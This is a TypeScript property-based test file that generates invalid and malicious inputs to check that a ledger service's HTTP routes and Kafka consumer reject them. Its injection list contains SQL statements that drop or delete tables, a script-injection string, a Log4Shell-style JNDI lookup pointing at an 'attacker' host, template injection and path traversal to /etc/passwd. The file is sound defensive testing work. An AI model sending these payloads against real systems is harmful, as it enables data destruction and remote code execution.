/**
 * Hostile input for every entry point, generated property-based (fast-check): what a
 * broken or malicious publisher sends. Every case is invalid by construction - a field
 * that breaks its pattern (SQL and script injection strings, unicode edge cases), a
 * wrong type, an unknown command, an extra field, malformed or oversized JSON, bad
 * headers, bytes that are not JSON at all - so each must be refused with a precise
 * error and leave no trace.
 */
import fc from 'fast-check';
import { COMMAND_TYPES } from '../../apps/ledger/src/commands/dto/command-catalogue';
import { COMMAND_EXAMPLES } from '../../apps/ledger/src/commands/dto/examples';

export interface HostileRequest {
  /** What the case is, for a failure message. */
  label: string;
  path: string;
  headers: Record<string, string>;
  /** The raw body, sent as is (it may not even be JSON). */
  body: string;
}

const INJECTIONS = [
  "x'; DROP TABLE ledger.events; --",
  "' OR '1'='1",
  '"; DELETE FROM ledger.idempotency_keys; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker/a}',
  '{{7*7}}',
  '../../etc/passwd',
  '\u0000',
  '\ud800',
  '\u202egnp.exe',
  '👩🏽‍💻 lead',
];

/** A string no id pattern accepts: it starts with a character ids may not start with. */
const badId = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.string({ unit: 'grapheme', maxLength: 40 }).map((text) => ` ${text}`),
  fc.constant('a'.repeat(129)),
);
const commandType = fc.constantFrom(...COMMAND_TYPES);
const unknownType = fc.string({ minLength: 1, maxLength: 40 }).filter((type) => !(COMMAND_TYPES as readonly string[]).includes(type));
/** A JSON value of another kind than an object (never null: optional fields take null). */
const notAnObject = fc.oneof(fc.integer(), fc.string(), fc.array(fc.integer(), { maxLength: 3 }), fc.boolean());

function exampleSubmission(type: (typeof COMMAND_TYPES)[number], partnershipId = 'hostile-target'): Record<string, unknown> {
  return { type, partnershipId, idempotencyKey: `hostile/${type}`, data: { ...COMMAND_EXAMPLES[type] } };
}

/** A submission in the transport-neutral shape that no rule can accept. */
export const hostileSubmission: fc.Arbitrary<{ label: string; submission: unknown }> = fc.oneof(
  fc.record({ type: commandType, id: badId }).map(({ type, id }) => ({ label: `partnershipId ${JSON.stringify(id)}`, submission: exampleSubmission(type, id) })),
  fc.record({ type: unknownType }).map(({ type }) => ({ label: `unknown type ${JSON.stringify(type)}`, submission: { ...exampleSubmission('RecordReading'), type } })),
  fc.record({ type: commandType, data: notAnObject }).map(({ type, data }) => ({ label: `data ${JSON.stringify(data)}`, submission: { ...exampleSubmission(type), data } })),
  fc.record({ type: commandType, key: fc.string({ minLength: 1, maxLength: 20 }), value: fc.jsonValue() })
    .filter(({ type, key }) => !Object.hasOwn(COMMAND_EXAMPLES[type], key))
    .map(({ type, key, value }) => {
      const submission = exampleSubmission(type);
      Object.defineProperty(submission.data, key, { value, enumerable: true, writable: true, configurable: true });
      return { label: `extra data field ${JSON.stringify(key)}`, submission };
    }),
  fc.record({ type: commandType, key: badId }).map(({ type, key }) => ({ label: `idempotencyKey ${JSON.stringify(key)}`, submission: { ...exampleSubmission(type), idempotencyKey: `${key} ` } })),
  fc.jsonValue().filter((value) => typeof value !== 'object' || value === null || Array.isArray(value) || !('type' in value)).map((value) => ({ label: 'arbitrary JSON', submission: value })),
);

const malformedJson = fc.oneof(
  fc.constantFrom('{', '{"type":', '[1,2', 'nul', '{"a":1,}', "{'single':'quotes'}", '\u0000'),
  fc.string({ maxLength: 50 }).filter((text) => {
    try {
      JSON.parse(text);
      return false;
    } catch {
      return true;
    }
  }),
);

const json = { 'content-type': 'application/json' };

/** Hostile HTTP requests over the ledger's command routes. */
export const hostileRequest: fc.Arbitrary<HostileRequest> = fc.oneof(
  hostileSubmission.map(({ label, submission }) => ({ label: `POST /commands, ${label}`, path: '/commands', headers: json, body: JSON.stringify(submission) })),
  fc.array(hostileSubmission, { minLength: 1, maxLength: 5 }).map((items) => ({
    label: `POST /commands/batch, ${items.map((item) => item.label).join('; ')}`,
    path: '/commands/batch',
    headers: json,
    body: JSON.stringify({ submissions: items.map((item) => item.submission) }),
  })),
  malformedJson.map((text) => ({ label: `malformed JSON ${JSON.stringify(text)}`, path: '/commands', headers: json, body: text })),
  fc.record({ key: fc.constantFrom('idempotency-key', 'if-match', 'x-occurred-at', 'x-source-system'), value: badId }).map(({ key, value }) => ({
    label: `header ${key}: ${JSON.stringify(value)}`,
    path: '/partnerships/hostile-target/readings',
    headers: { ...json, [key]: encodeURIComponent(withoutLoneSurrogates(value)) },
    body: JSON.stringify(COMMAND_EXAMPLES.RecordReading),
  })),
  fc.record({ value: fc.oneof(notAnObject, fc.constant({ ...COMMAND_EXAMPLES.RecordReading, value: 'NaN' })) }).map(({ value }) => ({
    label: `POST /partnerships/:id/readings with ${JSON.stringify(value).slice(0, 60)}`,
    path: '/partnerships/hostile-target/readings',
    headers: json,
    body: JSON.stringify(value),
  })),
  fc.constant({ label: 'a body over the 1 MB limit', path: '/commands', headers: json, body: JSON.stringify({ ...exampleSubmission('DefineVocabularyTerm'), data: { term: 'mql', definition: 'x'.repeat(1_100_000) } }) }),
);

/** Hostile messages for the Kafka ingest topic: bytes that are not JSON, invalid submissions, one without its idempotency key. */
export const hostileMessage: fc.Arbitrary<{ label: string; value: Buffer }> = fc.oneof(
  fc.uint8Array({ minLength: 1, maxLength: 64 }).map((bytes) => ({ label: 'random bytes', value: Buffer.concat([Buffer.from([0xff]), Buffer.from(bytes)]) })),
  malformedJson.filter((text) => text.length > 0).map((text) => ({ label: `malformed JSON ${JSON.stringify(text)}`, value: Buffer.from(text) })),
  hostileSubmission.map(({ label, submission }) => ({ label, value: Buffer.from(JSON.stringify(submission)) })),
  commandType.map((type) => {
    const { idempotencyKey: _dropped, ...withoutKey } = exampleSubmission(type);
    return { label: `${type} without an idempotency key`, value: Buffer.from(JSON.stringify(withoutKey)) };
  }),
);

/** A header travels as bytes: a lone UTF-16 surrogate has none (encodeURIComponent throws), so it becomes U+FFFD. */
function withoutLoneSurrogates(text: string): string {
  return text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
}

/** `count` samples of an arbitrary, reproducible from `seed`. */
export function samples<T>(arbitrary: fc.Arbitrary<T>, count: number, seed: number): T[] {
  return fc.sample(arbitrary, { numRuns: count, seed });
}
